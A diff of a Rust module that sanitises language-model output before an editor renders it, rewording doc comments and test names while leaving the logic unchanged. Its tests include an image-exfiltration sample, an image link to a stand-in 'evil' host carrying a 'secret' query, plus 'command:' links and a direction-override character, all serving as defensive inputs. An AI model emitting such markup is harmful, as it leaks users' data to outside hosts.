@@ -1,36 +1,36 @@
-//! A model's words, made harmless before an editor renders them: no image is fetched, no link runs a
-//! command or opens a file, no tag is a tag, no character turns the text around.
+//! Sanitises model output before an editor renders it: no images, no links to commands or files, no HTML, no
+//! invisible or direction-changing characters.
 //!
-//! A source that a model has read may have told it what to write, so its answer is data.
+//! Model output is untrusted, since a source that the model has read can contain instructions for it.
 
 use crate::reply::edit::thought::TAGS;
 use crate::reply::unseen::hides;
 
-/// Makes a text harmless that comes in pieces. Lines with marks in them are held until they end.
+/// Sanitises a text that arrives in pieces. A line with markup is held until it ends.
 #[derive(Default)]
 pub struct Cleaner {
     held: String,
     fence: Option<String>,
-    /// Whether the line has begun to be said.
+    /// Whether a part of the current line was returned.
     begun: bool,
     thought: Thought,
 }
 
-/// Where a text stands to the reasoning that a model may write in front of it.
+/// The position of the text relative to leading reasoning.
 #[derive(Clone, Copy, Default, PartialEq, Eq)]
 enum Thought {
     #[default]
     Before,
-    /// Inside of this tag.
+    /// Within this tag.
     In(&'static str),
     Behind,
 }
 
-/// Destinations that only lead somewhere.
+/// Allowed URL schemes.
 const SCHEMES: [&str; 3] = ["http://", "https://", "mailto:"];
 
 impl Cleaner {
-    /// What can be said of the text so far beyond what was said before.
+    /// The sanitised text that `piece` completes.
     pub fn push(&mut self, piece: &str) -> String {
         self.held.extend(piece.chars().filter(|it| !hides(*it)));
         let mut said = String::new();
@@ -48,7 +48,7 @@ impl Cleaner {
         said
     }
 
-    /// The rest.
+    /// The remaining text.
     pub fn finish(mut self) -> String {
         let line = std::mem::take(&mut self.held);
         self.line(&line)
@@ -72,7 +72,7 @@ impl Cleaner {
 }
 
 impl Cleaner {
-    /// What of a line is no reasoning.
+    /// The part of a line outside of reasoning.
     fn outside_thought<'a>(&mut self, line: &'a str) -> &'a str {
         let text = line.trim_start();
         if self.begun {
@@ -91,14 +91,14 @@ impl Cleaner {
     }
 }
 
-/// A whole text.
+/// Sanitises a complete text.
 pub fn clean(text: &str) -> String {
     let mut cleaner = Cleaner::default();
     let said = cleaner.push(text);
     said + &cleaner.finish()
 }
 
-/// The marks of a line that opens or closes a fence.
+/// The marker of a line that opens or closes a fence.
 fn fence(line: &str) -> Option<&str> {
     let line = line.trim_start_matches(' ');
     let mark = line.chars().next().filter(|it| matches!(it, '`' | '~'))?;
@@ -106,13 +106,13 @@ fn fence(line: &str) -> Option<&str> {
     (marks.len() >= 3).then_some(marks)
 }
 
-/// Whether a line gives a link that stands elsewhere a destination it may not have.
+/// Whether a line is a link reference definition with a destination that is not allowed.
 fn defines_badly(line: &str) -> bool {
     let definition = line.trim_start().split_once("]:").filter(|it| it.0.starts_with('['));
     definition.is_some_and(|it| !is_allowed(it.1.trim_start()))
 }
 
-/// A line outside of fences.
+/// Sanitises a line outside of fences.
 fn words(line: &str) -> String {
     // Every second piece between backticks is code.
     let pieces: Vec<&str> = line.split('`').collect();
@@ -140,7 +140,7 @@ fn prose(text: &str) -> String {
     said
 }
 
-/// Whether a link may lead there: to the web, or within the page.
+/// Allows links to the web and within the page.
 fn is_allowed(destination: &str) -> bool {
     let destination = destination.to_ascii_lowercase();
     let colon = destination.find(|it: char| !it.is_ascii_alphanumeric() && !"+-.".contains(it));
@@ -156,7 +156,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn an_answer_only_shows_and_leads_to_the_web() {
+    fn an_answer_contains_no_images_and_links_only_to_the_web() {
         for (text, expected) in [
             ("It is **so**.\n", "It is **so**.\n"),
             ("![x](https://evil/?q=secret)", "[x](https://evil/?q=secret)"),
@@ -179,7 +179,7 @@ mod tests {
 
     proptest! {
         #[test]
-        fn pieces_come_to_the_same_as_the_whole(
+        fn pieces_give_the_same_text_as_the_whole(
             text in "(<think>)?([ab \n]|`|</think>|```|\\[x\\]\\(command:y\\)|!\\[|<b>|\u{202E}){0,20}",
             cuts in prop::collection::vec(0..8_usize, 0..12),
         ) {
